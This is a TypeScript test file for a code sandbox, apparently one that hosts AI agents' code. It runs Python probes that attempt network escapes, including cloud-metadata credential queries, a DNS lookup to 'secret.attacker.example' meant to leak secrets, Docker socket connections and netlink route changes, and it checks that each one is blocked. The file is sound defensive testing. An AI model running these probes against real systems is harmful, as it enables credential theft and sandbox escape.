import assert from "node:assert/strict";
import { once } from "node:events";
import { createConnection, createServer, type Server } from "node:net";
import { join } from "node:path";
import { after } from "node:test";
import { systemIds } from "../../src/base/ids.ts";
import { guestTest as test } from "../contracts/sandbox-guests.ts";

after(endGuests);

import { type Attack, attempt, endGuests, newFolder, openAttacked, tryAttacks } from "./guest.ts";

const own = "the network namespace";
const filter = "the call filter";
/** Services of this machine that nobody inside may reach. */
const [tcp, abstract, path] = await Promise.all([
  listening({ host: "127.0.0.1", port: 0 }),
  listening({ path: `\0agentyard-attack-${systemIds.hex(12)}` }),
  listening({ path: join(newFolder(), "socket") }),
]);

const attacks: readonly Attack[] = [
  {
    ...{ number: "64a", name: "reaching the internet and the network around the host", stoppedBy: own },
    code: `
def reach(kind, address):
    with socket.socket(socket.AF_INET, kind) as s:
        s.settimeout(2)
        s.connect(address)
say([error_of(reach, kind, (host, 80)) for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM) for host in ("192.0.2.1", "10.0.0.1", "192.168.0.1", "172.17.0.1")])
`,
    expected: new Array(8).fill("ENETUNREACH"),
  },
  {
    ...{ number: "64b", name: "asking the cloud for the machine's credentials", stoppedBy: own },
    code: `say([error_of(socket.create_connection, (host, 80), 2) for host in ("169.254.169.254", "169.254.170.2", "100.100.100.200")])`,
    expected: ["ENETUNREACH", "ENETUNREACH", "ENETUNREACH"],
  },
  {
    ...{ number: "64c", name: "going around by IPv6", stoppedBy: own },
    code: `say([error_of(socket.create_connection, (host, 80), 2) for host in ("2001:db8::1", "fd00:ec2::254", "::ffff:192.0.2.1")])`,
    expected: ["ENETUNREACH", "ENETUNREACH", "ENETUNREACH"],
    onDocker: { expected: ["EADDRNOTAVAIL", "EADDRNOTAVAIL", "ENETUNREACH"] },
  },
  {
    ...{ number: "65", name: "telling secrets by name lookups", stoppedBy: "no resolver, in a network of its own" },
    code: `
def look():
    try:
        return socket.getaddrinfo("secret.attacker.example", 80)
    except socket.gaierror:
        return "no answer"
def ask():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"x", ("8.8.8.8", 53))
say([look(), error_of(ask), os.path.exists("/etc/resolv.conf") and text_of("/etc/resolv.conf") or "nobody"])
`,
    expected: ["no answer", "ENETUNREACH", "nobody"],
  },
  {
    ...{ number: "66", name: "using a service of the host at 127.0.0.1", stoppedBy: own },
    code: `say(error_of(socket.create_connection, ("127.0.0.1", ${portOf(tcp)}), 2))`,
    expected: "ECONNREFUSED",
    control: { without: own, shows: "done" },
  },
  {
    ...{ number: "67", name: "using a service of the host by an abstract name", stoppedBy: own },
    code: `
s = socket.socket(socket.AF_UNIX)
say(error_of(s.connect, "\\0" + ${JSON.stringify(`${abstract.address()}`.slice(1))}))
`,
    expected: "ECONNREFUSED",
    control: { without: own, shows: "done" },
  },
  {
    ...{ number: "68", name: "using a service of the host by its path", stoppedBy: "mounts that do not have it" },
    code: `
s = socket.socket(socket.AF_UNIX)
say([error_of(s.connect, name) for name in (${JSON.stringify(`${path.address()}`)}, "/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private")])
`,
    expected: new Array(5).fill("ENOENT"),
  },
  {
    ...{ number: "69", name: "talking to the hypervisor by AF_VSOCK", stoppedBy: filter },
    code: `say(error_of(socket.socket, 40, socket.SOCK_STREAM))`,
    expected: "EAFNOSUPPORT",
  },
  {
    ...{ number: "70a", name: "listening to events of the kernel by other netlink protocols", stoppedBy: filter },
    code: `say([error_of(socket.socket, socket.AF_NETLINK, socket.SOCK_RAW, protocol) for protocol in (15, 9, 16, 6, 12)])`,
    expected: new Array(5).fill("EAFNOSUPPORT"),
  },
  {
    ...{ number: "123", name: "hearing of every device by a netlink socket", stoppedBy: filter },
    code: `say(error_of(socket.socket, socket.AF_NETLINK, socket.SOCK_RAW, 15))`,
    expected: "EAFNOSUPPORT",
    control: { without: filter, shows: "done" },
  },
  {
    ...{ number: "70b", name: "opening seldom used corners of the kernel by socket families", stoppedBy: filter },
    code: `say(sorted({error_of(socket.socket, family, kind) for family in range(3, 46) if family not in (10, 16) for kind in (1, 2, 3, 5)}))`,
    expected: ["EAFNOSUPPORT"],
  },
  {
    ...{ number: "124", name: "opening a corner of the kernel by a pair of sockets", stoppedBy: filter },
    code: `say([error_of(socket.socketpair, family, 1) for family in (40, 17, 38, 30)])`,
    expected: new Array(4).fill("EAFNOSUPPORT"),
  },
  {
    ...{ number: "125", name: "sending packets of its own making", stoppedBy: "the missing capabilities" },
    code: `say([error_of(socket.socket, socket.AF_INET, socket.SOCK_RAW, 1), error_of(socket.socket, socket.AF_INET6, socket.SOCK_RAW, 58), error_of(open, "/dev/net/tun")])`,
    expected: ["EPERM", "EPERM", "ENOENT"],
  },
  {
    ...{ number: "126", name: "giving itself an address and a way out", stoppedBy: "the missing capabilities" },
    code: `
def ask(kind, flags, body):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    s.bind((0, 0))
    s.send(struct.pack("=IHHII", 16 + len(body), kind, flags | 5, 1, 0) + body)
    code = struct.unpack_from("=i", s.recv(4096), 16)[0]
    return name_of(-code)
address = struct.pack("=BBBBI", 2, 24, 0, 0, 1) + struct.pack("=HH4s", 8, 2, bytes([192, 0, 2, 7]))
route = struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack("=HHI", 8, 4, 1)
link = struct.pack("=BxHiII", 0, 0, 0, 0, 0) + struct.pack("=HH8s", 12, 3, b"attack0\\0")
say([ask(20, 0x600, address), ask(24, 0x600, route), ask(16, 0x600, link), [name for _, name in socket.if_nameindex()]])
`,
    expected: ["EPERM", "EPERM", "EPERM", ["lo"]],
  },
  {
    ...{ number: "127", name: "seeing the connections of the host", stoppedBy: own },
    code: `
lines = [line for name in ("tcp", "tcp6", "udp") for line in text_of("/proc/net/" + name).splitlines()[1:]]
say([len(lines), [line for line in text_of("/proc/net/unix").splitlines() if "agentyard-attack" in line]])
`,
    expected: [0, []],
  },
];

tryAttacks(attacks, "[X3][X5]");

test("attack 128: offering a service to the host or to another conversation is stopped by a network for each [X3][X5]", async () => {
  const [first, second] = await Promise.all([openAttacked(), openAttacked()]);
  const serve = `
import threading
server = socket.create_server(("127.0.0.1", 45454))
names = socket.socket(socket.AF_UNIX)
names.bind("\\0attack")
names.listen()
threading.Thread(target=server.accept, daemon=True).start()
say(1)
`;
  const reach = `
s = socket.socket(socket.AF_UNIX)
say([error_of(socket.create_connection, ("127.0.0.1", 45454), 2), error_of(s.connect, "\\0attack")])
`;
  assert.deepEqual(
    [
      await attempt(first, { code: serve, isKept: true }),
      await attempt(first, { code: reach, isKept: true }),
      await attempt(second, { code: reach }),
      await attempt(second, { code: serve, isKept: true }),
      await connects(45_454),
    ],
    [1, ["done", "done"], ["ECONNREFUSED", "ECONNREFUSED"], 1, "ECONNREFUSED"],
  );
});

async function listening(where: { host: string; port: number } | { path: string }): Promise<Server> {
  const server = createServer((socket) => socket.on("error", () => {}).end("hello"));
  server.listen(where);
  await once(server, "listening");
  after(() => server.close());
  return server;
}

function portOf(server: Server): number {
  const address = server.address();
  return address !== null && typeof address === "object" ? address.port : 0;
}

function connects(port: number): Promise<string | undefined> {
  return new Promise((resolve) => {
    const socket = createConnection(port, "127.0.0.1");
    socket.once("connect", () => resolve("done"));
    socket.once("error", (error) => resolve("code" in error ? String(error.code) : error.message));
    socket.once("connect", () => socket.destroy());
  });
}
